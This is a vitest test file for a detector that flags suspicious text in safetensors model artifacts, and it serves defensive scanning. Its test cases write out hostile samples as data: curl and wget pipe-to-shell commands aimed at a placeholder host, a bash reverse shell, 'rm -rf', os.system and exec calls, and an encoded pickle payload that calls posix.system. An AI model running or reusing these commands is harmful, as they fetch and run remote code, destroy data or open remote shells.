import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { suspiciousText } from '../../../src/artifacts/safetensors/suspicious-text.ts';

/** Protocol 4: a frame, two names, STACK_GLOBAL. */
const PICKLE = Buffer.from('\x80\x04\x95\x14\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93.', 'latin1');

describe('suspiciousText', () => {
  it.each([
    ['code', "import os; os.system('id')"],
    ['code', 'exec(data)'],
    ['code', "__import__('os')"],
    ['code', 'pickle.loads(blob)'],
    ['code', 'cposix\nsystem\n(S"id"\ntR.'],
    ['shell', 'curl -s http://host.example/a.sh | bash'],
    ['shell', 'wget http://host.example/s -O- | sudo /bin/sh'],
    ['shell', 'rm -rf /home/me'],
    ['shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['script', '<script>alert(1)</script>'],
    ['encoded', PICKLE.toString('base64')],
    ['encoded', PICKLE.toString('hex')],
    ['encoded', deflateSync(PICKLE).toString('base64')],
    ['secret', `AKIA${'A'.repeat(16)}`],
    ['secret', '-----BEGIN RSA PRIVATE KEY-----'],
    ['secret', `hf_${'a'.repeat(34)}`],
  ])('sees %s in %j', (kind, text) => {
    expect(suspiciousText(text).map((sign) => sign.kind)).toContain(kind);
  });

  it.each([
    'We import data from https://example.org/data and evaluate the model.',
    'model.eval() was called before export',
    'Use with transformers: AutoModel.from_pretrained("name")',
    'pt',
    'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    'The operating system and its shell are described in chapter 3.',
    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    '{"lr": 0.0001, "betas": [0.9, 0.999]}',
  ])('sees nothing in %j', (text) => {
    expect(suspiciousText(text)).toEqual([]);
  });

  it('does not repeat a secret', () => {
    const secret = `ghp_${'x'.repeat(36)}`;
    expect(JSON.stringify(suspiciousText(secret))).not.toContain(secret);
  });
});
